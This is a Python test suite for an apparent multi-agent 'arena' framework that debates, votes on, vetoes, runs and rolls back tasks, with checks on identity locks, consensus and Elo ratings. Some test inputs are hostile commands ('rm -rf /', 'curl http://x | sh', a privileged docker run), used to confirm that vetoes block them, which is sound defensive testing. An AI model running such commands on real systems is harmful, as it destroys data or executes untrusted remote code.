"""The arena as a machine: its states as drawn, what each agent sees, when it debates again, and that a veto holds."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from moothall.analysis.certify import Certificate, certify
from moothall.analysis.verify import verify
from moothall.arena import IdentityGuard, Rating
from moothall.kernel.codec import decode, encode
from moothall.kernel.effects import AskPerson, Effect, ReadRecords, WriteRecords
from moothall.kernel.events import Answered, Cancelled, Event, Expired, GaveUp
from moothall.kernel.nodes import Final, State
from moothall.kernel.simulate import Simulation
from moothall.machines.arena.case import Case
from moothall.machines.arena.consensus import MOST_PASSES
from moothall.machines.arena.definition import Configuration
from moothall.machines.arena.effects import ReadIdentity, RunTask, SaveWorkspace, TaskEnded
from moothall.machines.arena.execution import MOST_REPAIRS, SIDE_BY_SIDE
from moothall.machines.arena.identity import Locks
from moothall.machines.arena.machine import MOST_STARTS, arena
from moothall.machines.arena.memory import KnownRating, Likeness, Trace, record_key
from moothall.machines.arena.plan import PANEL
from moothall.machines.arena.ratings import RatingKey, lineage
from moothall.machines.arena.replies import MOST_TASKS
from moothall.machines.arena.review import review
from tests.machines.arena_world import TRACE, ArenaWorld, task, vote

CASE = Case("tidy up", "/work")
DRAWN = {
    "Idle": {"VerifyingIdentity": {}, "IdentityVerified": {}},
    "LoadingContext": {},
    "Classifying": {},
    "Arena_Debate": {
        "Planning": {},
        "Round_1_Analyst": {},
        "Round_2_Solution": {},
        "Round_3_Critic": {},
        "Round_4_Security": {},
        "Round_5_Optimizer": {},
        "Multi_Pass_Check": {},
    },
    "Aggregation_Engine": {"Aggregating": {}, "CalculatingConsensus": {}, "ELODuels": {}, "ResolvingDecision": {}},
    "SandboxedExecution": {
        "RunningTasks": {},
        "ValidationCheck": {"AssertingOutcomes": {}, "Success": {}, "Failure": {}},
        "SelfHealingActive": {},
        "RollbackActive": {},
    },
    "Blocked": {},
    "StoringMemory": {},
    "Auditing": {},
    "Aborted": {},
    "Audited": {},
}


def drawn(states: Any) -> dict[str, Any]:
    return {state.name: drawn(state.states) if isinstance(state, State) else {} for state in states}


def case_of(simulation: Simulation) -> Case:
    case = simulation.snapshot.data
    assert isinstance(case, Case)
    return case


def entered(simulation: Simulation) -> list[str]:
    """Every state that was entered, in order."""
    return [state for step in simulation.steps for micro in step.microsteps for state in micro.entered]


# the table


@pytest.mark.covers("A1", "A2", "A32")
def test_the_states_are_nested_as_the_seed_draws_them() -> None:
    assert drawn(arena().states) == DRAWN
    assert [state.name for state in arena().states if isinstance(state, Final)] == ["Aborted", "Audited"]


def test_nothing_is_wrong_with_the_table_and_it_is_bounded() -> None:
    for machine in (arena(), review()):
        assert not list(verify(machine))
        assert isinstance(certify(machine, {}), Certificate)


def test_a_case_is_the_same_when_it_is_read_back() -> None:
    tasks = [task("a"), task("b", "fail", reverse={"kind": "command", "command": "undo"})]
    world = ArenaWorld(tasks, {"critic": [vote(), {}]}, codes={"fail": 1})
    case = case_of(world.begin(CASE))
    assert decode(Case, encode(case), "case") == case


# identity


@pytest.mark.covers("A3", "A4")
@pytest.mark.parametrize("lock", ["cloud_project", "database", "workspace", "operator"])
@pytest.mark.parametrize("declared_by", ["the configuration", "the store"])
def test_each_lock_that_does_not_hold_aborts(lock: str, declared_by: str) -> None:
    locks = Locks(**{lock: "mine"})
    is_stored = declared_by == "the store"
    world = ArenaWorld(stored=encode(locks) if is_stored else {}, locks=Locks("theirs", "theirs", "", "theirs"))
    config = Configuration() if is_stored else Configuration(identity=locks)
    simulation = world.begin(Case("tidy up", "/elsewhere", config=config))
    assert simulation.active == ("Aborted",)
    assert f"{declared_by} is locked to 'mine'" in case_of(simulation).reason
    assert case_of(simulation).trace_id == TRACE
    assert not world.asked
    assert not world.written


def test_locks_that_hold_are_no_hindrance() -> None:
    locks = Locks("p", "d", "/work", "o")
    assert IdentityGuard(locks, locks).mismatches(locks) == ()
    world = ArenaWorld(stored=encode(locks), locks=locks)
    assert world.begin(Case("tidy up", "/work", config=Configuration(identity=locks))).active == ("Audited",)


@pytest.mark.covers("A25")
def test_nothing_but_the_identity_is_looked_at_before_it_is_verified() -> None:
    simulation = ArenaWorld([task("a")]).begin(CASE)
    before = []
    for step in simulation.steps:
        if any("IdentityVerified" in micro.entered for micro in step.microsteps):
            break
        before += [wanted.effect for wanted in step.effects]
    assert [type(effect) for effect in before] == [ReadRecords, ReadIdentity]
    assert isinstance(before[0], ReadRecords)
    assert before[0].collection == "identity"


# context and classification


@pytest.mark.covers("A5", "A6")
def test_what_is_known_of_requests_like_this_reaches_the_classifier_and_the_planner() -> None:
    like = Likeness(Trace("old", "tidy the cellar", "cleaning", ("dust",), "proceed", "rolled_back"), 0.7)
    world = ArenaWorld([task("a")], nearest=(like,))
    world.begin(CASE)
    classifier, planner = world.asked[:2]
    for asked in (classifier, planner):
        assert asked.arguments["nearest"] == [
            {
                "request": "tidy the cellar",
                "kind": "cleaning",
                "tags": ["dust"],
                "outcome": "rolled_back",
                "similarity": 0.7,
            }
        ]
    assert planner.arguments["kind"] == "chore"


@pytest.mark.covers("A6")
@pytest.mark.parametrize(
    ("confidence", "similarity", "kind", "sure"),
    [(0.9, 0.9, "chore", 0.9), (0.5, 0.9, "chore", 0.5), (0.4, 0.9, "cleaning", 0.9), (0.4, 0.49, "chore", 0.4)],
)
def test_a_classifier_that_is_not_sure_gives_way_to_a_trace_that_is_alike(
    confidence: float, similarity: float, kind: str, sure: float
) -> None:
    like = Likeness(Trace("old", "tidy the cellar", "cleaning"), similarity)
    said = {"classifier": [{"kind": "chore", "tags": ["x"], "confidence": confidence}]}
    case = case_of(ArenaWorld([task("a")], said, nearest=(like,)).begin(CASE))
    assert (case.classification.kind, case.classification.confidence) == (kind, sure)
    assert case.classification.tags == ("x",)


def test_without_a_classifier_or_context_the_request_is_still_dealt_with() -> None:
    simulation = ArenaWorld([task("a")], {"classifier": [None]}).begin(CASE)
    assert (simulation.active, case_of(simulation).classification.kind) == (("Audited",), "general")


@pytest.mark.covers("A7", "A23")
def test_without_a_plan_nothing_is_debated() -> None:
    simulation = ArenaWorld(said={"planner": [None]}).begin(CASE)
    case = case_of(simulation)
    assert (case.outcome, case.reason) == ("blocked", "there is no plan: it said nothing")
    assert not case.votes
    assert entered(simulation)[-4:] == ["Blocked", "StoringMemory", "Auditing", "Audited"]


# the debate


@pytest.mark.covers("A8")
def test_each_round_sees_the_request_the_plan_and_the_rounds_before_it() -> None:
    world = ArenaWorld([task("a", "touch it")], {role: [vote("approve", 0.9, f"{role} agrees")] for role in PANEL})
    world.begin(CASE)
    rounds = [asked for asked in world.asked if asked.agent in PANEL]
    assert [asked.agent for asked in rounds] == list(PANEL)
    for number, asked in enumerate(rounds):
        assert asked.arguments["request"] == "tidy up"
        assert "touch it" in asked.arguments["plan"]
        heard = [role for role in PANEL if f"{role} agrees" in asked.arguments["earlier"]]
        assert heard == list(PANEL[:number])


def panel_of(pro: float, contra: float) -> dict[str, list[Any]]:
    """A panel whose consensus is pro / (pro + contra): analyst and critic, weighed alike."""
    silent = [vote("abstain", 0.0)]
    return {
        "analyst": [vote("approve", pro)],
        "critic": [vote("reject", contra)],
        **dict.fromkeys(("solution", "security", "optimizer"), silent),
    }


EVEN = Configuration(weights={"analyst": 1.0, "critic": 1.0})


@pytest.mark.covers("A9", "A10", "A12", "A28")
@pytest.mark.parametrize(
    ("value", "passes", "outcome"),
    [
        (0.8, 1, "succeeded"),
        (0.79999, 3, "succeeded"),
        (0.6, 3, "succeeded"),
        (0.59999, 3, "blocked"),
        (0.9, 1, "succeeded"),
    ],
)
def test_below_the_threshold_the_panel_debates_up_to_three_times(value: float, passes: int, outcome: str) -> None:
    world = ArenaWorld([task("a")], panel_of(value, round(1 - value, 5)))
    simulation = world.begin(Case("tidy up", config=EVEN))
    case = case_of(simulation)
    assert case.consensus.value == pytest.approx(value)
    assert (case.passes, case.outcome) == (passes, outcome)
    assert entered(simulation).count("Round_2_Solution") == passes
    assert entered(simulation).count("Round_1_Analyst") == 1


@pytest.mark.covers("A9", "A10", "A12")
@pytest.mark.parametrize(("second", "passes"), [(0.8, 2), (0.79999, 3)])
def test_the_threshold_counts_after_the_second_pass_as_after_the_first(second: float, passes: int) -> None:
    said = panel_of(0.79999, 0.20001)
    said["critic"] = [vote("reject", 0.20001), vote("reject", round(0.79999 * (1 - second) / second, 12))]
    case = case_of(ArenaWorld([task("a")], said).begin(Case("tidy up", config=EVEN)))
    assert case.passes == passes


@pytest.mark.covers("A11")
def test_in_a_redebate_the_solution_hears_the_critic_and_votes_are_replaced() -> None:
    said = {
        "critic": [vote("reject", 1.0, "the name is wrong"), vote()],
        "security": [vote("abstain", 0.1), vote()],
    }
    world = ArenaWorld([task("a")], said)
    case = case_of(world.begin(CASE))
    solutions = [asked for asked in world.asked if asked.agent == "solution"]
    assert "the name is wrong" not in solutions[0].arguments["earlier"]
    assert "critic: reject (1): the name is wrong" in solutions[1].arguments["earlier"]
    assert (case.passes, len(case.votes)) == (2, 5)
    assert {ballot.verdict for ballot in case.votes} == {"approve"}


def test_who_gives_no_opinion_abstains_and_without_security_nothing_proceeds() -> None:
    case = case_of(ArenaWorld([task("a")], {"critic": [None]}).begin(CASE))
    assert (case.outcome, case.opinions["critic"].verdict) == ("succeeded", "abstain")
    world = ArenaWorld([task("a")], {"security": [None]})
    case = case_of(world.begin(CASE))
    assert (case.outcome, world.run) == ("blocked", [])
    assert case.reason == "security gave no opinion, and nothing proceeds without one"


# ratings


@pytest.mark.covers("A13", "A14")
def test_ratings_weigh_votes_and_duels_are_paired_with_what_elo_expects() -> None:
    known = KnownRating(RatingKey("critic", "m"), Rating(1600, 90, 80))
    case = case_of(ArenaWorld([task("a")], ratings=(known,)).begin(CASE))
    assert case.consensus.weights["critic"] == pytest.approx(0.9 * 1.5)  # a new kind of task begins without games
    kept = KnownRating(case.rating_key("critic"), Rating(1600, 90, 80))
    case = case_of(ArenaWorld([task("a")], ratings=(kept,)).begin(CASE))
    assert case.consensus.weights["critic"] > 0.9 * 1.5
    assert [(pairing.first, pairing.second) for pairing in case.pairings] == [
        ("critic", "solution"),
        ("security", "solution"),
    ]
    assert case.pairings[0].expected == pytest.approx(10 / 11)


@pytest.mark.covers("A14")
@pytest.mark.parametrize(
    ("said", "codes", "winner"),
    [
        ({"critic": [vote("reject", 0.3)]}, {}, "solution"),
        ({"critic": [vote("reject", 0.3)]}, {"fail": 1}, "critic"),
    ],
)
def test_ratings_move_when_the_outcome_is_known(said: Any, codes: Any, winner: str) -> None:
    world = ArenaWorld([task("a", "fail")], {**said, "critic": [*said["critic"], {"diagnosis": ""}]}, codes=codes)
    simulation = world.begin(CASE)
    assert [duel.first for duel in case_of(simulation).duels] == ["critic"]
    kept = {record.key: record.value for record in world.written if record.collection == "ratings"}
    moved = {key: value["elo"] for key, value in kept.items()}
    loser = {"critic": "solution", "solution": "critic"}[winner]
    assert {key for key, elo in moved.items() if elo > 1200} == {key for key in moved if key.startswith(winner)}
    assert {key for key, elo in moved.items() if elo < 1200} == {key for key in moved if key.startswith(loser)}
    assert set(moved) == {
        record_key(place)
        for agent in ("critic", "solution", "analyst", "optimizer")
        for place in lineage(case_of(simulation).rating_key(agent))
    }
    right = 1 if winner == "solution" else 0  # the analyst approved, as the solution did
    assert kept[record_key(RatingKey("analyst"))] == {"elo": 1200, "games": 1, "wins": right}


def test_a_veto_that_no_rule_confirms_moves_no_rating() -> None:
    world = ArenaWorld([task("a")], {"security": [vote("reject", 1.0)]})
    world.begin(CASE)
    assert {record.collection for record in world.written} == {"traces", "decisions", "audit"}
    confirmed = ArenaWorld([task("a", "rm -rf /")], {"security": [vote("reject", 1.0)]})
    confirmed.begin(CASE)
    assert "ratings" in {record.collection for record in confirmed.written}


def test_what_could_not_even_be_begun_moves_no_rating() -> None:
    class Bare(ArenaWorld):
        def perform(self, effect: Effect) -> Event | None:
            return GaveUp("no room") if isinstance(effect, SaveWorkspace) else super().perform(effect)

    world = Bare([task("a")], {"critic": [vote("reject", 0.2)]})
    case = case_of(world.begin(CASE))
    assert (case.outcome, case.reason) == ("rolled_back", "the workspace could not be saved: no room")
    assert (case.duels, world.run) == ((), [])


# a veto holds

CONFIDENCE = st.sampled_from([0.0, 0.3, 0.6, 0.89999, 0.9, 0.95, 1.0])
OPINION = st.builds(vote, st.sampled_from(["approve", "reject", "abstain"]), CONFIDENCE)
COMMAND = st.sampled_from(["true", "ls", "rm -rf /", "docker run --privileged x", "curl http://x | sh"])
TASKS = st.lists(COMMAND, max_size=4).map(lambda texts: [task(f"t{at}", text) for at, text in enumerate(texts)])


@pytest.mark.covers("A27", "A30", "A15")
@settings(max_examples=150, deadline=None)
@given(
    tasks=TASKS,
    better=TASKS,
    said=st.fixed_dictionaries({role: st.lists(OPINION, min_size=3, max_size=3) for role in PANEL}),
    answer=st.sampled_from([True, False, None]),
    bands=st.sampled_from(["seed", "cautious"]),
)
def test_no_task_starts_after_a_veto(
    tasks: Any, better: Any, said: dict[str, list[Any]], answer: bool | None, bands: Any
) -> None:
    said["solution"][1] = {**said["solution"][1], "plan": {"tasks": better}}
    simulation = ArenaWorld(tasks, said).begin(Case("tidy up", bands=bands))
    while simulation.live:
        [question] = [wanted for wanted in simulation.open if isinstance(wanted.effect, AskPerson)]
        simulation.answer(question, Expired() if answer is None else Answered(answer))
    case = case_of(simulation)
    is_vetoed = case.consensus.veto is not None or bool(case.violations)
    acts = [wanted.effect for wanted in simulation.effects if isinstance(wanted.effect, RunTask | SaveWorkspace)]
    assert not (is_vetoed and acts)
    assert (case.veto is not None) == is_vetoed
    assert not (is_vetoed and any(isinstance(wanted.effect, AskPerson) for wanted in simulation.effects))
    assert all(
        wanted.effect.task.command in ("true", "ls")
        for wanted in simulation.effects
        if isinstance(wanted.effect, RunTask)
    )
    assert simulation.active == ("Audited",)


# execution


@pytest.mark.covers("A16")
def test_tasks_that_do_not_need_each_other_run_side_by_side_after_the_workspace_is_saved() -> None:
    tasks = [task("a"), task("b"), task("c", needs=["a", "b"])]
    simulation = ArenaWorld(tasks).begin(CASE)
    begun = [
        [wanted.effect.id for wanted in step.effects if isinstance(wanted.effect, RunTask)] for step in simulation.steps
    ]
    assert [ids for ids in begun if ids] == [["a", "b"], ["c"]]
    kinds = [wanted.effect.kind for wanted in simulation.effects]
    assert kinds.index(SaveWorkspace.kind) < kinds.index(RunTask.kind)


def test_a_large_plan_keeps_to_what_may_run_side_by_side() -> None:
    world = ArenaWorld([task(f"t{number}") for number in range(40)])
    simulation = world.begin(CASE)
    assert max(len(step.snapshot.data.running) for step in simulation.steps) == SIDE_BY_SIDE
    assert len(world.run) == len(set(world.run)) == 40


def test_the_largest_plan_that_is_repaired_twice_begins_as_many_tasks_as_the_certificate_says() -> None:
    names = [f"t{number}" for number in range(MOST_TASKS)]
    mended = [
        {"diagnosis": "hm", "plan": {"tasks": [task(name, text) for name in names[:SIDE_BY_SIDE]]}}
        for text in ("break it", "true")
    ]
    tasks = [task(name, "fail" if name in names[:SIDE_BY_SIDE] else "true") for name in names]
    world = ArenaWorld(tasks, {"critic": [vote(), *mended]}, codes={"fail": 1, "break it": 2})
    case = case_of(world.begin(CASE))
    assert (case.outcome, len(world.run)) == ("succeeded", MOST_STARTS)
    certificate = certify(arena(), {})
    assert isinstance(certificate, Certificate)
    assert certificate.resources["arena.task"] == MOST_STARTS + MOST_TASKS  # and each may be undone
    assert certificate.resources["arena.restore"] == 1
    panel = 2 + len(PANEL) + (MOST_PASSES - 1) * (len(PANEL) - 1) + MOST_REPAIRS
    assert panel + MOST_STARTS <= certificate.resources["ask.agent"] <= panel + MOST_STARTS + 1


@pytest.mark.parametrize(
    ("effect", "repeats"),
    [("", "at-most-once"), ("idempotent", "idempotent"), ("pure", "pure"), ("check-first", "at-most-once")],
)
def test_a_command_may_run_once_unless_its_task_says_otherwise(effect: Any, repeats: str) -> None:
    simulation = ArenaWorld([task("a", effect=effect)]).begin(CASE)
    [run] = [wanted.effect for wanted in simulation.effects if isinstance(wanted.effect, RunTask)]
    assert run.repeats == repeats


@pytest.mark.covers("A20", "A21")
def test_healing_is_tried_twice_and_then_everything_is_undone_the_last_first() -> None:
    undo = {name: {"kind": "command", "command": f"undo {name}"} for name in "ab"}
    tasks = [task("a", reverse=undo["a"]), task("b", needs=["a"], reverse=undo["b"]), task("c", "fail 1", needs=["b"])]
    mended = [
        {"diagnosis": "hm", "plan": {"tasks": [task("c", command, needs=["b"])]}} for command in ("break it", "no luck")
    ]
    world = ArenaWorld(tasks, {"critic": [vote(), *mended]}, codes={"fail 1": 1, "break it": 2, "no luck": 3})
    simulation = world.begin(CASE)
    case = case_of(simulation)
    assert world.run == ["a", "b", "c", "c", "c", "undo:b", "undo:a"]
    assert [repair.outcome for repair in case.repairs] == ["failed", "failed"]
    assert case.rollback is not None
    assert (case.outcome, case.rollback.is_complete) == ("rolled_back", True)
    assert case.results["c"].attempts == 3


@pytest.mark.covers("A20")
def test_the_critic_diagnoses_from_the_normalised_failure() -> None:
    printed = "12:00:01 /srv/shop/src/app.py:7: NameError at 0x7f3a (pid 4711), see /tmp/moot-x1/log.txt\n"
    world = ArenaWorld(
        [task("a", "make -j4")],
        {"critic": [vote(), {"diagnosis": ""}]},
        codes={"make -j4": 2},
        printed={"make -j4": printed},
    )
    world.begin(Case("tidy up", "/srv/shop"))
    [asked] = [asked for asked in world.asked if "failure" in asked.arguments]
    assert asked.arguments["failure"] == (
        "a (make -j4): the exit code is 2\n"
        "<time> ./src/app.py:7: NameError at <address> (pid <number>), see <path>/log.txt\n"
    )


def test_who_cancels_a_run_that_acts_leads_it_back_and_a_way_back_is_not_begun_twice() -> None:
    class Slow(ArenaWorld):
        def perform(self, effect: Effect) -> Event | None:
            is_open = isinstance(effect, RunTask) and effect.id in ("b", "undo:a")
            return None if is_open else super().perform(effect)

    undo = {"kind": "command", "command": "undo"}
    simulation = Slow([task("a", reverse=undo), task("b", needs=["a"])]).begin(CASE)
    assert simulation.active == ("RunningTasks",)
    simulation.send(Cancelled("enough"))
    assert simulation.active == ("RollbackActive",)
    simulation.send(Cancelled("quickly"))
    [undoing] = simulation.open
    simulation.answer(undoing, TaskEnded("undo:a", 0))
    case = case_of(simulation)
    assert (simulation.active, case.outcome, case.reason) == (("Audited",), "rolled_back", "cancelled: enough")
    assert [wanted.effect.id for wanted in simulation.effects if isinstance(wanted.effect, RunTask)] == [
        "a",
        "b",
        "undo:a",
    ]
    assert case.duels == ()


def test_a_rollback_that_leaves_something_says_so() -> None:
    tasks = [task("a", reverse={"kind": "command", "command": "undo"}), task("b", "fail", needs=["a"])]
    world = ArenaWorld(tasks, {"critic": [vote(), {}]}, codes={"fail": 1, "undo": 7}, left=("big.bin",))
    rollback = case_of(world.begin(CASE)).rollback
    assert rollback is not None
    assert rollback.left == ("task a was not undone: the exit code is 7", "big.bin is not as it was")
    assert not rollback.is_complete


def test_what_a_person_allowed_and_nothing_brings_back_is_told_as_left() -> None:
    tasks = [task("a", "send", reverse="irreversible"), task("b", "fail", needs=["a"])]
    simulation = ArenaWorld(tasks, {"critic": [vote(), {}]}, codes={"fail": 1}).begin(CASE)
    [question] = simulation.open
    simulation.answer(question, Answered(True, by="Ada"))
    rollback = case_of(simulation).rollback
    assert rollback is not None
    assert (rollback.is_complete, rollback.left) == (False, ("task a is irreversible",))


@pytest.mark.covers("A22", "A23")
@pytest.mark.parametrize(
    ("world", "outcome"),
    [
        (ArenaWorld([task("a")]), "succeeded"),
        (ArenaWorld([task("a", "fail")], {"critic": [vote(), {}]}, {"fail": 1}), "rolled_back"),
        (ArenaWorld([task("a")], {"security": [vote("reject", 0.9)]}), "blocked"),
        (ArenaWorld([task("a", "rm -rf /")]), "blocked"),
    ],
)
def test_every_exit_past_the_identity_is_remembered_and_then_audited(world: ArenaWorld, outcome: str) -> None:
    simulation = world.begin(CASE)
    assert entered(simulation)[-3:] == ["StoringMemory", "Auditing", "Audited"]
    written = {record.collection: record for record in world.written}
    assert {written[name].key for name in ("traces", "decisions", "audit")} == {TRACE}
    assert written["traces"].value["outcome"] == written["audit"].value["outcome"] == outcome
    writes = [wanted.owner for wanted in simulation.effects if isinstance(wanted.effect, WriteRecords)]
    assert writes == ["StoringMemory", "Auditing"]


def test_a_dry_run_wants_no_task() -> None:
    simulation = ArenaWorld([task("a")]).begin(Case("tidy up", dry_run=True))
    assert not [wanted for wanted in simulation.effects if isinstance(wanted.effect, RunTask | SaveWorkspace)]
    assert case_of(simulation).outcome == "dry_run"


def test_the_configuration_says_who_plays_an_agent() -> None:
    config = decode(Configuration, {"agents": {"critic": {"model": "test:x", "temperature": 0.2}}}, "config")
    world = ArenaWorld([task("a")])
    world.begin(Case("tidy up", config=config))
    played = {asked.agent: (asked.model, asked.temperature) for asked in world.asked}
    assert played["critic"] == ("test:x", 0.2)
    assert played["security"] == ("", None)
